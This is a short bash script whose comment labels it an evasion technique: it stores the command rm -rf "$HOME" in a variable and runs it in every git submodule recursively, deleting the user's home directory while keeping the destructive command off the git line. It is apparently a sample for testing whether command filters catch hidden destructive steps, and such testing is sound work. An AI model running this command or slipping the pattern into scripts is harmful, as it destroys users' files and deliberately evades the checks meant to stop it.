#!/bin/bash
# Evasion: the command git runs in each submodule is kept in a variable
set -u
step='rm -rf "$HOME"'
git submodule foreach --recursive "$step"
